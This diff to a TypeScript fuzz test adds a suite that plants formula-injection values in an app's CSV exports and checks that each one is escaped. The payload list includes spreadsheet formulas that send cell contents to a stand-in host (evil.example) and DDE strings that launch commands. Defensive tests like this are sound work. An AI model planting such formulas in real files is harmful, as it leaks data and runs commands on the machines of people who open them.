@@ -1,13 +1,16 @@
 // A client's mistake is never a 5xx: every route of the API gets generated garbage (query strings,
 // JSON and form bodies, multipart bodies with and without a boundary, files of every broken kind,
 // odd headers) from a fixed seed, a few hundred requests in all, and the server must answer each
-// with a status below 500 and stay healthy afterwards. The same seed gives the same requests on every
+// with a status below 500 and stay healthy afterwards. A second family writes generated formula-looking
+// values (document text, annotation corrections, file names) and reads them back from the CSV exports,
+// each cell escaped. The same seed gives the same requests on every
 // run, so a failure names a request that can be replayed.
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { random } from '../../main/ai/extraction/forest.ts';
 import { allRoutes } from '../../main/http/routes/index.ts';
 import { ADMIN, startTestServer, type TestServer } from '../helpers/testServer.ts';
-import { created, makeTaxonomy, pdfWithText, upload, type Taxonomy } from '../helpers/documentFixtures.ts';
+import { created, makeTaxonomy, pdfWithLettersAtSpans, pdfWithText, span, textLineSpan, upload, type Taxonomy } from '../helpers/documentFixtures.ts';
+import { parseCsv } from '../helpers/csv.ts';
 
 const SEED = 20261124;
 const REQUESTS = 420;
@@ -152,4 +155,52 @@ describe('fuzz: generated requests against every route', () => {
     expect(after.status_data).toBe(2);
     expect(after.text).toContain('after the fuzz');
   }, 300_000);
+});
+
+describe('fuzz: formula injection through the CSV exports', () => {
+  it('escapes every generated value that starts with = + - @ TAB or CR, in all.csv and documents.csv (seed ' + SEED + ')', async () => {
+    const rnd = random(SEED + 1);
+    const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rnd() * xs.length)];
+    const starts = ['=', '+', '-', '@', '\t', '\r'];
+    const bodies = ['1+1', 'HYPERLINK("http://evil.example/?"&A1,"click")', "cmd|'/C calc'!A0", 'SUM(A1:A9)', '2+3', 'IMPORTXML(CONCAT("http://x/?",A2),"//a")', ' , "quoted", ', 'x\ny', 'DDE("cmd";"/C calc";"!A0")'];
+    const generated = (printable: boolean) => {
+      const first = printable ? pick(starts.slice(0, 4)) : pick(starts);
+      let body = pick(bodies);
+      if (printable) body = body.replace(/\n/g, ' ');
+      return `${first}${body}${rnd() < 0.5 ? ` ${Math.floor(rnd() * 1000)}` : ''}`;
+    };
+
+    const hostile = await makeTaxonomy(s.admin, 'Fuzz CSV');
+    const expectedText = new Set<string>();
+    // Document text that starts with a formula character: the annotation takes its text from the page.
+    for (let i = 0; i < 3; i++) {
+      const text = generated(true);
+      const d = await created(upload(s.admin, { project: hostile.project, category: hostile.category, sync: 'true' }, { name: `doc-${i}.pdf`, data: await pdfWithText(text) }));
+      const a = await created(s.admin.post(`/api/v3/documents/${d.id}/annotations/`, { label: hostile.labels.total, label_set: hostile.category, span: [textLineSpan()] }));
+      expect(a.offset_string.startsWith(text.slice(0, 1)), a.offset_string).toBe(true);
+      expectedText.add(a.offset_string);
+    }
+    // Annotation values a reviewer typed, and a file name, on one more document.
+    const fileName = `${generated(true).replace(/[\\/\n"]/g, '_')}.pdf`;
+    const letters = await created(upload(s.admin, { project: hostile.project, category: hostile.category, sync: 'true' }, { name: fileName, data: await pdfWithLettersAtSpans() }));
+    for (let n = 1; n <= 16; n++) {
+      const text = generated(false);
+      const a = await created(s.admin.post(`/api/v3/documents/${letters.id}/annotations/`, { label: hostile.labels.total, label_set: hostile.category, span: [span(n, text)] }));
+      expectedText.add(a.offset_string);
+    }
+
+    const csv = async (file: string) => {
+      const r = await fetch(`${s.url}/api/v3/projects/${hostile.project}/export/${file}?token=${s.admin.token}`);
+      expect(r.status).toBe(200);
+      return parseCsv(await r.text());
+    };
+    const all = await csv('all.csv');
+    const textColumn = all[0].indexOf('text');
+    expect(new Set(all.slice(1).map((row) => row[textColumn]))).toEqual(new Set([...expectedText].map((t) => `'${t}`)));
+    const table = await csv('documents.csv');
+    const nameColumn = table[0].indexOf('data_file_name');
+    expect(table.slice(1).map((row) => row[nameColumn])).toContain(`'${fileName}`);
+    // No cell of either file starts with a formula character unless it is a plain number.
+    for (const cell of [...all.flat(), ...table.flat()]) expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+@\t\r]|^-(?![\d.]+$)/);
+  }, 120_000);
 });
